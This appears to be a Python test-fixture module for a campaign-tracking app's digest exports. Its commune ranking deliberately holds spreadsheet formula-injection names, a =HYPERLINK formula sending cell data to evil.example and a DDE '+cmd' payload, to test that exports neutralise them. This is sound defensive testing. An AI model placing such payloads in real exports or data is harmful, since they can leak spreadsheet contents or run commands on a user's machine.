"""A hand-written digest payload (docs/digest.md) for the API, export and CLI tests.

Its commune ranking carries names a spreadsheet would run as formulas, so that every export is
checked for neutralisation.
"""
import uuid
from datetime import UTC, date, datetime, timedelta

from tests.conftest import ICT
from tracker.campaigns.models import Target
from tracker.checkins.models import CheckIn, CheckInSource
from tracker.digests.models import Digest
from tracker.trainings.models import TrainingStatus

DAY = date(2025, 8, 20)
COMPILED_AT = datetime(2025, 8, 19, 23, 0, 5, tzinfo=UTC)
#: The keys of docs/digest.md's payload table; the API adds ``compiled_at``.
PAYLOAD_KEYS = {
    "campaign", "unit", "date", "as_of", "start_date", "deadline", "day_number", "days_total", "days_left",
    "target", "reached", "reached_percent", "new_reached_yesterday", "checkins_yesterday",
    "trainings_held_yesterday", "trainings_held_total", "required_daily_pace", "pace_7d",
    "projected_completion_date", "on_track", "villages_total", "villages_reached", "villages_not_reached",
    "ranking", "breakdown", "indicators", "upcoming_total", "upcoming", "stale_total", "stale", "series",
}
INJECTED_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _training(id_, title, starts_at, ends_at):
    return {"id": id_, "title": title, "topic": "VNeID", "village": {"code": "6600101", "name": "Buôn Ko Tam"},
            "starts_at": starts_at, "ends_at": ends_at, "place": "Nhà văn hóa buôn"}


def sample_payload(campaign, unit, day=DAY, **changes):
    """The digest of ``unit`` on ``day`` (day 37 of 103 for the default campaign): 1,234 of 3,000 reached."""
    start = campaign.start_date
    payload = {
        "campaign": {"id": campaign.id, "name": campaign.name},
        "unit": {"code": unit.code, "name": unit.name, "level": unit.level.value},
        "date": day.isoformat(), "as_of": f"{(day - timedelta(days=1)).isoformat()}T17:00:00+00:00",
        "start_date": start.isoformat(), "deadline": campaign.deadline.isoformat(),
        "day_number": (day - start).days + 1, "days_total": (campaign.deadline - start).days + 1,
        "days_left": max(0, (campaign.deadline - day).days + 1),
        "target": 3000, "reached": 1234, "reached_percent": 41.1,
        "new_reached_yesterday": 48, "checkins_yesterday": 61, "trainings_held_yesterday": 3,
        "trainings_held_total": 52, "required_daily_pace": 27, "pace_7d": 42.86,
        "projected_completion_date": "2025-10-01", "on_track": True,
        "villages_total": 3, "villages_reached": 2,
        "villages_not_reached": [{"code": "6600102", "name": "Thôn Điện Tân", "commune": "Xã Ea Kao"}],
        "ranking": [
            {"code": "66001", "name": "Xã Ea Kao", "target": 2100, "reached": 934, "percent": 44.5,
             "rank": 1, "rank_yesterday": 2, "rank_change": 1},
            {"code": "66002", "name": "+cmd|' /C calc'!A0", "target": 900, "reached": 300, "percent": 33.3,
             "rank": 2, "rank_yesterday": 1, "rank_change": -1},
            {"code": "66003", "name": INJECTED_NAME, "target": None, "reached": 0, "percent": None,
             "rank": None, "rank_yesterday": None, "rank_change": None},
        ],
        "breakdown": {
            "gender": {"female": 700, "male": 530, "other": 4},
            "ethnic_minority": {"minority": 810, "majority": 424},
            "age_band": {"under_15": 0, "15-24": 300, "25-39": 420, "40-59": 380, "60+": 134},
            "topic": {"VNeID": 900, "-Sử dụng công cụ AI": 410},
        },
        "indicators": [{"key": "vneid_level2", "name": "VNeID mức 2", "target": 2100, "reached": 640,
                        "reached_percent": 30.5}],
        "upcoming_total": 1, "upcoming": [_training(11, "Cài đặt VNeID", f"{day.isoformat()}T01:00:00+00:00",
                               f"{day.isoformat()}T03:00:00+00:00")],
        "stale_total": 1, "stale": [_training(7, "Nhận diện lừa đảo", "2025-08-12T07:00:00+00:00", "2025-08-12T09:00:00+00:00")],
        "series": [{"date": (start + timedelta(days=n)).isoformat(), "new_reached": 33 + n % 3,
                    "reached": sum(33 + k % 3 for k in range(n + 1))} for n in range((day - start).days)],
    }
    return payload | changes


def store_digest(db, campaign, unit, day=DAY, **changes):
    """Store the sample digest of ``unit`` on ``day`` (``changes`` replace payload keys)."""
    digest = Digest(campaign=campaign, unit=unit, date=day, payload=sample_payload(campaign, unit, day, **changes),
                    compiled_at=COMPILED_AT)
    db.session.add(digest)
    db.session.commit()
    return digest


def add_reached(db, campaign, tree, create_training, create_participant):
    """Real data to compile: targets 66001 → 10 (6600101 → 4, 6600102 → 6) and 66002 → 5; on 20/08 two
    people of 6600101 and one of 6600201 checked in (so on 21/08: 66001 2/10, 66002 1/5, the province 3/15)."""
    db.session.add_all([Target(campaign=campaign, unit=tree[key], target=target) for key, target in
                        [("commune", 10), ("village", 4), ("village2", 6), ("other_commune", 5)]])
    here = create_training(campaign=campaign, status=TrainingStatus.held)
    there = create_training(campaign=campaign, village=tree["other_village"], topic="Sử dụng công cụ AI",
                            status=TrainingStatus.held)
    people = [create_participant("Nguyễn Thị Hoa"), create_participant("Y Bih Niê", gender="male"),
              create_participant("Trần Văn Tâm", village=tree["other_village"], ethnicity="Kinh")]
    for training, person in [(here, people[0]), (here, people[1]), (there, people[2])]:
        db.session.add(CheckIn(training=training, participant=person, scan_id=uuid.uuid4(),
                               scanned_at=datetime(2025, 8, 20, 8, 30, tzinfo=ICT), source=CheckInSource.camera))
    db.session.commit()
    return people
